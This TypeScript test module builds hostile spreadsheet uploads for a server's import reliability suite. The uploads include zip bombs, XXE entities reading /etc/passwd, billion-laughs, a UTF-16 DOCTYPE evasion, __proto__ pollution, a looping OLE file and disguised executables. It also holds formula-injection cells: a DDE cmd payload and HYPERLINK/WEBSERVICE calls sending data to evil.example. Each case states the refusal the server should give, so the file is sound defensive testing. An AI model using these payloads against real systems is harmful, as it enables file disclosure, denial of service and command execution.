import { crc32, createDeflateRaw } from 'node:zlib';
import { utils, write } from '@e965/xlsx';
import { makeZip, rewriteXlsx, sheetFile, type DeflatedPart } from '../cart-test-files';

/**
 * The hostile uploads of the reliability suite (issue 8, item 5), built in memory so the suite
 * needs no binary fixtures. Each says what the server must answer: a refusal code and message
 * key, or `handled` (a normal import answer) with a check of its own in the test.
 */
export interface HostileFile {
  name: string;
  filename: string;
  content: Buffer;
  /** `refused`: this code and English message; `handled`: an import answer (see HANDLED_MESSAGES). */
  expect: { refused: { code: number; msg: string } } | { handled: true };
}

const EXCEL_EXCEPTION = { code: 40000, msg: 'Excel file exception!' };
const WRONG_TYPE = { code: 40000, msg: 'The file type is incorrect!' };
/**
 * A handled file may also end in one of the import's own spec messages (never an exception):
 * rows past the reader's row cap are not read, so a number below 10,000 empty rows is "no data".
 */
export const HANDLED_MESSAGES = ['Success', 'There is no data in the excel file!'];
const WRONG_EXTENSION = { code: 40000, msg: 'Upload files can only be in xls,xlsx format!' };

/** A small valid list the hostile variants start from. */
export const plainList = (bookType: 'xlsx' | 'biff8' = 'xlsx') =>
  sheetFile(
    [
      ['number', 'qty'],
      ['04465-33450', 2],
    ],
    bookType,
  );

/**
 * `size` bytes of one value, deflated 1 MiB at a time: the test process never holds the bomb's
 * inflated content, so the memory figure measures the server, not the test.
 */
async function deflatedRepeat(byte: number, size: number): Promise<DeflatedPart> {
  const chunk = Buffer.alloc(1024 * 1024, byte);
  const deflate = createDeflateRaw({ level: 9 });
  const output: Buffer[] = [];
  deflate.on('data', (data: Buffer) => output.push(data));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  let crc = 0;
  for (let written = 0; written < size; written += chunk.length) {
    const piece = chunk.subarray(0, Math.min(chunk.length, size - written));
    crc = crc32(piece, crc);
    if (!deflate.write(piece)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return { deflated: Buffer.concat(output), crc, size };
}

/** XML with a DOCTYPE inserted after its declaration. */
const withDoctype = (doctype: string) =>
  rewriteXlsx(plainList(), (name, text) =>
    name.endsWith('sheet1.xml') ? text.replace('?>', `?>${doctype}`) : text,
  );

/** The same XML part re-encoded as UTF-16 with a byte-order mark: a byte-wise `<!DOCTYPE` search misses it. */
export function utf16Doctype(): Buffer {
  const doctype = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
  const parts: Array<{ name: string; data: Buffer }> = [];
  rewriteXlsx(plainList(), (name, text) => {
    const edited = name.endsWith('sheet1.xml')
      ? text.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace('?>', `?>${doctype}`)
      : text;
    parts.push({
      name,
      data: name.endsWith('sheet1.xml')
        ? Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(edited, 'utf16le')])
        : Buffer.from(edited),
    });
    return text;
  });
  return makeZip(parts);
}

/** A workbook whose sheet, defined name and strings are all called `__proto__`. */
function protoBook(): Buffer {
  const sheet = utils.aoa_to_sheet([
    ['number', '__proto__', 'constructor'],
    ['__proto__', 'prototype', '__proto__'],
    ['04465-33450', '__proto__', 'constructor'],
  ]);
  sheet.A2!.c = [{ a: '__proto__', t: '__proto__' }];
  const book = utils.book_new();
  utils.book_append_sheet(book, sheet, '__proto__');
  book.Workbook = { Names: [{ Name: '__proto__', Ref: "'__proto__'!$A$1" }] };
  book.Props = { Title: '__proto__', Author: 'constructor' };
  book.Custprops = { __proto__: 'polluted', constructor: 'x' } as unknown as Record<string, string>;
  return write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
}

/**
 * A header row, then `count` empty rows, then one number: an xls at its format's 65,536-row limit
 * (rows of empty strings), or an xlsx with 100,000 rows present only as row records with a height
 * (empty strings would pass the 5 MB cap).
 */
function emptyRows(bookType: 'xlsx' | 'biff8', count: number): Buffer {
  const rows: unknown[][] = [['number', 'qty']];
  for (let i = 0; i < count; i++) rows.push(bookType === 'biff8' ? ['', ''] : [null, null]);
  rows.push(['04465-33450', 1]);
  return sheetFile(rows, bookType, (sheet) => {
    if (bookType === 'xlsx') sheet['!rows'] = Array.from({ length: count + 2 }, () => ({ hpt: 15 }));
  });
}

/** Formula cells of every kind; SheetJS must hand over values, never evaluate or keep a formula. */
function formulaBook(bookType: 'xlsx' | 'biff8'): Buffer {
  return sheetFile(
    [
      ['number', 'qty', 'remark'],
      ['04465-33450', 1, 'a'],
      ['1K0 698 151 B', 2, 'b'],
      ["=cmd|' /C calc'!A0", 1, '=HYPERLINK("http://evil.example/?x="&A2,"click")'],
    ],
    bookType,
    (sheet) => {
      // A formula with a cached value: the value is what counts.
      sheet.B2 = { t: 'n', v: 3, f: '1+2' };
      // DDE and a web call without cached values.
      sheet.A5 = { t: 's', v: '', f: 'WEBSERVICE("http://evil.example/x")' };
      sheet.B5 = { t: 'n', v: 1 };
      sheet['!ref'] = 'A1:C5';
    },
  );
}

/** An OLE (xls) header followed by garbage: a compound file whose sector chains go nowhere. */
function brokenOle(): Buffer {
  const buffer = Buffer.alloc(4096, 0xff);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(buffer);
  // Sector size 2^9, one FAT sector that points at itself: a chain that loops forever.
  buffer.writeUInt16LE(0x003e, 0x18);
  buffer.writeUInt16LE(0x0003, 0x1a);
  buffer.writeUInt16LE(0xfffe, 0x1c);
  buffer.writeUInt16LE(9, 0x1e);
  buffer.writeUInt16LE(6, 0x20);
  buffer.writeUInt32LE(1, 0x2c);
  buffer.writeUInt32LE(0, 0x30);
  buffer.writeUInt32LE(0, 0x4c);
  for (let i = 0x200; i < 0x400; i += 4) buffer.writeUInt32LE(0, i);
  return buffer;
}

export async function hostileFiles(): Promise<HostileFile[]> {
  const text = Buffer.from('number,qty\n04465-33450,1\n');
  const exe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(2048, 0x90)]);
  const sixMegabytes = Buffer.alloc(6 * 1024 * 1024, 1);
  sixMegabytes.set([0x50, 0x4b, 0x03, 0x04]);
  return [
    {
      name: 'zip bomb: one 200 MB part of spaces',
      filename: 'bomb.xlsx',
      content: makeZip([
        { name: 'xl/worksheets/sheet1.xml', data: await deflatedRepeat(0x20, 200 * 1024 * 1024) },
      ]),
      expect: { refused: EXCEL_EXCEPTION },
    },
    {
      name: 'zip bomb: 3,000 parts',
      filename: 'many.xlsx',
      content: makeZip(
        Array.from({ length: 3000 }, (_, i) => ({ name: `x/${i}.xml`, data: Buffer.from('<a/>') })),
      ),
      expect: { refused: EXCEL_EXCEPTION },
    },
    {
      name: 'zip bomb: a part inflating past its declared size',
      filename: 'liar.xlsx',
      content: makeZip([
        {
          name: 'xl/worksheets/sheet1.xml',
          data: await deflatedRepeat(0x20, 40 * 1024 * 1024),
          declaredSize: 1000,
        },
      ]),
      expect: { refused: EXCEL_EXCEPTION },
    },
    {
      name: 'XXE: external entity (file:///etc/passwd)',
      filename: 'xxe.xlsx',
      content: withDoctype('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
      expect: { refused: EXCEL_EXCEPTION },
    },
    {
      name: 'XXE: billion laughs',
      filename: 'laughs.xlsx',
      content: withDoctype(
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
      ),
      expect: { refused: EXCEL_EXCEPTION },
    },
    {
      name: 'XXE: DOCTYPE in a UTF-16 part',
      filename: 'xxe16.xlsx',
      content: utf16Doctype(),
      expect: { refused: EXCEL_EXCEPTION },
    },
    {
      name: '__proto__ as sheet, defined name, property and strings',
      filename: 'proto.xlsx',
      content: protoBook(),
      expect: { handled: true },
    },
    {
      name: '6 MB file',
      filename: 'big.xlsx',
      content: sixMegabytes,
      expect: { refused: { code: 40013, msg: 'The file must not be larger than 5 MB.' } },
    },
    { name: 'text renamed .xlsx', filename: 'list.xlsx', content: text, expect: { refused: WRONG_TYPE } },
    { name: 'text renamed .xls', filename: 'list.xls', content: text, expect: { refused: WRONG_TYPE } },
    { name: '.exe renamed .xlsx', filename: 'setup.xlsx', content: exe, expect: { refused: WRONG_TYPE } },
    { name: '.exe as it is', filename: 'setup.exe', content: exe, expect: { refused: WRONG_EXTENSION } },
    { name: '.txt as it is', filename: 'list.txt', content: text, expect: { refused: WRONG_EXTENSION } },
    {
      name: 'xls renamed .xlsx',
      filename: 'a.xlsx',
      content: plainList('biff8'),
      expect: { refused: WRONG_TYPE },
    },
    {
      name: 'broken OLE compound file',
      filename: 'broken.xls',
      content: brokenOle(),
      expect: { refused: EXCEL_EXCEPTION },
    },
    {
      name: 'zip magic with garbage after it',
      filename: 'garbage.xlsx',
      content: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(1000, 0x41)]),
      expect: { refused: EXCEL_EXCEPTION },
    },
    {
      name: 'xls with 65,534 empty rows (the format allows 65,536)',
      filename: 'empty-rows.xls',
      content: emptyRows('biff8', 65_534),
      expect: { handled: true },
    },
    {
      name: 'xlsx with 100,000 empty rows',
      filename: 'empty-rows.xlsx',
      content: emptyRows('xlsx', 100_000),
      expect: { handled: true },
    },
    {
      name: 'formulas in cells (xlsx)',
      filename: 'formulas.xlsx',
      content: formulaBook('xlsx'),
      expect: { handled: true },
    },
    {
      name: 'formulas in cells (xls)',
      filename: 'formulas.xls',
      content: formulaBook('biff8'),
      expect: { handled: true },
    },
  ];
}
